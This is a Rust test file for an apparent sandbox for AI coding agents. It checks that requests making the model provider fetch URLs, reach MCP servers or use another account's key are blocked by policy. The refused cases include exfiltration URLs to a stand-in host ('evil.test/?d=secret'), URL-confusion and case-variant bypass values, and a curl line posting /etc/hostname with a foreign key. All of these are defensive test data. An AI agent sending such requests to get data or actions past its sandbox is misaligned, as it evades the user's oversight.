//! Actions that a request makes the model's provider do count as tools of the agent, and only the user's own account
//! is used.

use serde_json::{Value, json};

use crate::support::forge::authority;
use crate::support::http_server::{HttpServer, Reply};
use crate::support::{Mode, Outcome, Place};

/// What the agent, whose program has this name, gets for each body at its path.
fn post(place: &Place, program: &str, asks: &[(&str, Value)]) -> Vec<String> {
    let mut script = "#!/bin/sh\n".to_owned();
    for (number, (path, body)) in asks.iter().enumerate() {
        place.write(place.project.join(format!("request{number}.json")), body.to_string());
        script.push_str(&format!(
            "curl -sS --max-time 20 -w ' %{{http_code}}\\n' -H 'Content-Type: application/json' --data-binary @request{number}.json \
             \"$ANTHROPIC_BASE_URL{path}\"\n"
        ));
    }
    let agent = place.script(place.project.join("bin").join(program), &script);
    let outcome = Outcome::of(place.agentsh(&["run", "--quiet", "--"]).arg(agent));
    outcome.stdout.lines().map(str::to_owned).collect()
}

fn model(place: &Place) -> HttpServer {
    let model = HttpServer::start(|_| Reply::json("{}"));
    place.set("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{}", model.port));
    model
}

fn image(url: &str) -> Value {
    let block = json!({"type": "image", "source": {"type": "url", "url": url}});
    json!({"model": "m", "messages": [{"role": "user", "content": [block]}]})
}

fn with_tool(tool: Value) -> Value {
    json!({"model": "m", "messages": [], "input": [], "tools": [tool]})
}

const MESSAGES: &str = "/v1/messages";
const RESPONSES: &str = "/v1/responses";

#[test]
fn the_provider_reaches_for_the_agent_what_the_agent_may_reach() {
    for mode in Mode::all() {
        let place = Place::new(mode);
        let model = model(&place);
        place.user_policy(
            "version: 1\nagent: {network: {allow: [open.test, \"**.wide.test\", wide.test, \
             {host: narrow.test, inspect: true, allow: [\"GET /docs/**\"]}]}}\n",
        );
        let mcp = |url: &str| json!({"model": "m", "messages": [], "mcp_servers": [{"type": "url", "name": "x", "url": url}]});
        let fetch = |domain: &str| {
            (
                MESSAGES,
                with_tool(
                    json!({"type": "web_fetch_20250910", "name": "web_fetch", "allowed_domains": [domain]}),
                ),
            )
        };
        let file = |url: &str| {
            let part = json!({"type": "input_file", "file_url": url});
            (RESPONSES, json!({"model": "m", "input": [{"role": "user", "content": [part]}]}))
        };
        let chat = |url: &str| {
            let part = json!({"type": "image_url", "image_url": {"url": url}});
            ("/v1/chat/completions", json!({"model": "m", "messages": [{"role": "user", "content": [part]}]}))
        };
        let part = |part: Value| {
            ("/v1/chat/completions", json!({"model": "m", "messages": [{"role": "user", "content": [part]}]}))
        };
        let batch = |url: &str| {
            ("/v1/messages/batches", json!({"requests": [{"custom_id": "a", "params": image(url)}]}))
        };
        let refused = [
            (MESSAGES, image("https://evil.test/?d=secret")),
            (MESSAGES, image("https://narrow.test/upload?d=secret")),
            (MESSAGES, image("https://open.test:8443/")),
            (MESSAGES, image("https://open.test\\@evil.test/")),
            ("/v1/messages/count_tokens", image("https://evil.test/")),
            chat("http://evil.test/"),
            file("https://evil.test/"),
            batch("https://evil.test/"),
            ("/v1/batches", json!({"input_file_id": "f", "endpoint": "/v1/responses"})),
            (
                "/v1beta/models/m:generateContent",
                json!({"contents": [{"parts": [{"fileData": {"fileUri": "https://evil.test/"}}]}]}),
            ),
            (MESSAGES, mcp("https://evil.test/mcp")),
            (MESSAGES, mcp("https://narrow.test/docs/mcp")),
            (
                RESPONSES,
                with_tool(json!({"type": "mcp", "server_label": "x", "server_url": "https://evil.test/"})),
            ),
            (
                RESPONSES,
                with_tool(json!({"type": "mcp", "server_label": "x", "connector_id": "connector_gmail"})),
            ),
            (MESSAGES, with_tool(json!({"type": "web_fetch_20250910", "name": "web_fetch"}))),
            (MESSAGES, with_tool(json!({"type": "telepathy_20270101", "name": "t"}))),
            (RESPONSES, with_tool(json!({"type": "web_search_preview"}))),
            fetch("open.test"),
            fetch("evil.test"),
            // Servers that pass over an unknown type, or over the case of a name.
            (
                RESPONSES,
                json!({"type": "x_tool_use", "model": "m", "input": [{"role": "user", "content": [
                    {"type": "input_image", "image_url": "https://evil.test/"}]}]}),
            ),
            (
                RESPONSES,
                json!({"model": "m", "input": [{"role": "user", "content": [
                    {"Type": "input_file", "file_data": "https://evil.test/"}]}]}),
            ),
            part(json!({"type": "text", "image": "https://evil.test/"})),
            part(json!({"images": ["https://evil.test/"]})),
            (RESPONSES, with_tool(json!({"type": "namespace", "tools": [{"type": "web_search_preview"}]}))),
            (RESPONSES, with_tool(json!({"type": "function", "Type": "web_search_preview"}))),
        ];
        let said = post(&place, "claude", &refused);
        assert_eq!(said.len(), refused.len(), "{said:?}");
        for (line, (path, body)) in said.iter().zip(&refused) {
            assert!(
                line.ends_with(" 403") && line.contains("to allow it: "),
                "{mode:?} {path} {body}: {line}"
            );
        }
        assert!(model.asked().is_empty(), "{mode:?}");
        assert!(said[0].contains("`agentsh policy allow evil.test`"), "{}", said[0]);
        let calls = place.listed(&["mcp", "calls", "--json"]);
        assert_eq!(calls.len(), refused.len(), "{calls:?}");
        let blocked = |call: &Value| call["server_id"] == "agent" && call["action"] == "block";
        assert!(calls.iter().all(blocked), "{calls:?}");

        let allowed = [
            (MESSAGES, image("https://open.test/?d=1")),
            (MESSAGES, image("https://narrow.test/docs/a.png")),
            chat("data:image/png;base64,aGk="),
            file("https://open.test/"),
            batch("https://open.test/"),
            ("/v1/files", json!({})),
            (MESSAGES, mcp("https://open.test/mcp")),
            (MESSAGES, with_tool(json!({"type": "web_search_20250305", "name": "web_search"}))),
            (MESSAGES, with_tool(json!({"name": "Bash", "input_schema": {"type": "object"}}))),
            (RESPONSES, with_tool(json!({"type": "web_search", "external_web_access": false}))),
            (RESPONSES, with_tool(json!({"type": "custom", "name": "apply_patch"}))),
            fetch("wide.test"),
            part(json!({"image": "https://open.test/"})),
            part(json!({"images": ["aGk="]})),
            part(json!({"type": "tool_use", "name": "f", "input": {"image": "https://evil.test/"}})),
            (
                RESPONSES,
                with_tool(json!({"type": "namespace", "tools": [{"type": "function", "name": "read"}]})),
            ),
        ];
        let said = post(&place, "claude", &allowed);
        assert!(said.len() == allowed.len() && said.iter().all(|line| line == "{} 200"), "{mode:?} {said:?}");
        for (asked, (path, body)) in model.asked().iter().zip(&allowed) {
            assert_eq!((asked.path.as_str(), &asked.message()), (*path, body));
        }
    }
}

#[test]
fn a_rule_by_name_allows_or_denies_what_the_provider_does() {
    let place = Place::new(Mode::Invoker);
    let model = model(&place);
    let lists = |lists: &str| {
        place.user_policy(&format!("version: 1\nsandbox: {{mcp: {{enforce_policy: true, {lists}}}}}\n"));
    };
    let fetch = || (MESSAGES, with_tool(json!({"type": "web_fetch_20250910", "name": "web_fetch"})));
    let search = || (MESSAGES, with_tool(json!({"type": "web_search_20250305", "name": "web_search"})));
    let asks = [fetch(), search(), ("/v1/batches", json!({})), (MESSAGES, image("https://evil.test/"))];
    lists("allowed_tools: [{server: agent, tool: web_fetch}, {server: agent, tool: batch}]");
    assert!(post(&place, "claude", &asks).iter().all(|line| line == "{} 200"));
    assert_eq!(model.asked().len(), asks.len());
    // A pattern over all servers means servers.
    lists("allowed_tools: [{server: \"*\", tool: \"*\"}], tool_policy: allowlist");
    let said = post(&place, "claude", &asks);
    assert!(said[0].ends_with(" 403") && said[1] == "{} 200", "{said:?}");
    lists(
        "tool_policy: denylist, denied_tools: [{server: agent, tool: web_search}], allowed_tools: [{server: agent, tool: \"*\"}]",
    );
    let said = post(&place, "claude", &asks);
    assert!(said[0] == "{} 200" && said[1].ends_with(" 403"), "{said:?}");
    assert!(said[1].contains("policy.yaml:2 (sandbox.mcp.denied_tools[0])"), "{said:?}");
    // The file of a project allows nothing.
    lists("tool_policy: none");
    place.write(".agentsh.yaml", "sandbox: {mcp: {allowed_tools: [{server: agent, tool: web_fetch}]}}\n");
    assert!(post(&place, "claude", &asks)[0].ends_with(" 403"));
}

/// OpenAI's search opens pages unless the request forbids it; an agent with that search continues with the index.
#[test]
fn a_search_that_opens_pages_is_kept_to_the_index() {
    let place = Place::new(Mode::Invoker);
    let model = model(&place);
    let live = json!({"type": "web_search", "external_web_access": true});
    let request = json!({"model": "m", "input": [], "tools": [live.clone()]});
    assert_eq!(post(&place, "claude", &[(RESPONSES, request.clone())]), ["{} 200"]);
    assert_eq!(model.asked()[0].message()["tools"][0]["external_web_access"], json!(false));
    let calls = place.listed(&["mcp", "calls", "--json"]);
    assert_eq!((calls.len(), calls[0]["tool_name"].as_str()), (1, Some("web_search")), "{calls:?}");
    place.user_policy("version: 1\nsandbox: {mcp: {allowed_tools: [{server: agent, tool: web_search}]}}\n");
    assert_eq!(post(&place, "claude", &[(RESPONSES, request.clone())]), ["{} 200"]);
    assert_eq!(model.asked()[1].message(), request);
    place.user_policy("version: 1\n");
    let nested =
        json!({"model": "m", "input": [], "tools": [{"type": "namespace", "name": "n", "tools": [live]}]});
    assert_eq!(post(&place, "claude", &[(RESPONSES, nested)]), ["{} 200"]);
    let tool = &model.asked()[2].message()["tools"][0]["tools"][0];
    assert_eq!(tool["external_web_access"], json!(false), "{tool}");
}

#[test]
fn key_of_another_account_is_refused_if_the_users_account_is_known() {
    let ask = "curl -sS --max-time 20 -w ' %{http_code}\\n'";
    let script = format!(
        "#!/bin/sh\n{ask} -H \"X-Api-Key: $ANTHROPIC_API_KEY\" \"$ANTHROPIC_BASE_URL/v1/models\"\n\
         {ask} \"$ANTHROPIC_BASE_URL/v1/models\"\n\
         {ask} -H 'X-Api-Key: sk-ant-other' \"$ANTHROPIC_BASE_URL/v1/models\"\n\
         {ask} -H 'Authorization: Bearer sk-other' -d @/etc/hostname \"$ANTHROPIC_BASE_URL/v1/files\"\n\
         {ask} -H 'X-Api-Key: sk-ant-other' \"$ANTHROPIC_BASE_URL/api/hello\"\n\
         {ask} \"$ANTHROPIC_BASE_URL/v1beta/models/m?%6bey=other\"\n"
    );
    let run = |place: &Place| {
        let claude = place.script(place.project.join("bin/claude"), &script);
        let outcome = Outcome::of(place.agentsh(&["run", "--quiet", "--"]).arg(claude));
        outcome.stdout.lines().map(str::to_owned).collect::<Vec<_>>()
    };
    for credentials in ["pass", "broker"] {
        let place = Place::new(Mode::Invoker);
        let model = model(&place);
        place.user_policy(&format!("version: 1\nllm: {{credentials: {credentials}}}\n"));
        place.set("ANTHROPIC_API_KEY", "sk-ant-real");
        let said = run(&place);
        assert_eq!(said.len(), 6, "{said:?}");
        assert!(said[..2].iter().all(|line| line == "{} 200"), "{credentials}: {said:?}");
        for line in &said[2..] {
            assert!(
                line.ends_with(" 403") && line.contains("a key that differs from"),
                "{credentials}: {line}"
            );
        }
        assert_eq!(model.asked().len(), 2);
        assert_eq!(model.asked()[0].header("x-api-key"), Some("sk-ant-real"));
    }
    // A user with another account too, or with only one of them, may use any of them.
    for login in [true, false] {
        let place = Place::new(Mode::Invoker);
        let _model = model(&place);
        if login {
            place.set("ANTHROPIC_API_KEY", "sk-ant-real");
            place.write(place.home.join(".claude/.credentials.json"), "{}");
        }
        let said = run(&place);
        assert!(said.len() == 6 && said[..3].iter().all(|line| line == "{} 200"), "{login}: {said:?}");
    }
}

/// The host at which an agent signs in is open for that, and only where it does.
#[test]
fn login_host_of_an_agent_is_open_for_logins_only() {
    for mode in Mode::all() {
        for account in ["login", "key", "first start", "rule"] {
            let place = Place::new(mode).online().policed_by("userns");
            place.set("SSL_CERT_FILE", authority(&place).display().to_string());
            match account {
                "key" | "first start" => place.set("ANTHROPIC_API_KEY", "sk-ant-real"),
                _ => drop(place.write(place.home.join(".claude/.credentials.json"), "{}")),
            }
            if account == "key" {
                place.write(place.home.join(".claude.json"), r#"{"hasCompletedOnboarding": true}"#);
            }
            // The user's own rule for that host wins.
            let allow = if account == "rule" { "platform.claude.com" } else { "open.test" };
            place.user_policy(&format!(
                "version: 1\nagent: {{network: {{unknown: deny, allow: [{allow}]}}}}\n"
            ));
            let ask = "curl -sS -o /dev/null --max-time 20 -w '%{http_code} ' 2>/dev/null";
            let at = "https://platform.claude.com";
            let script = format!(
                "#!/bin/sh\n{ask} -d x {at}/v1/oauth/token\n{ask} -d data -H 'Cookie: sessionKey=other' {at}/api/organizations\n\
                 {ask} {at}/v1/oauth/token?d=data\n{ask} {at}/v1/oauth/hello\n"
            );
            let claude = place.script(place.project.join("bin/claude"), &script);
            let outcome = Outcome::of(place.agentsh(&["run", "--quiet", "--"]).arg(claude));
            let log = std::fs::read_to_string(place.internet_log()).unwrap_or_default();
            match account {
                "login" => assert_eq!(outcome.stdout, "200 403 403 200 ", "{mode:?} {outcome}"),
                "key" => assert_eq!(outcome.stdout, "000 000 000 000 ", "{mode:?} {outcome}"),
                "first start" => assert_eq!(outcome.stdout, "403 403 403 200 ", "{mode:?} {outcome}"),
                _ => assert_eq!(outcome.stdout, "200 200 200 200 ", "{mode:?} {outcome}"),
            }
            assert_eq!(log.contains("93.184.216.36 443"), account != "key", "{log}");
        }
    }
}
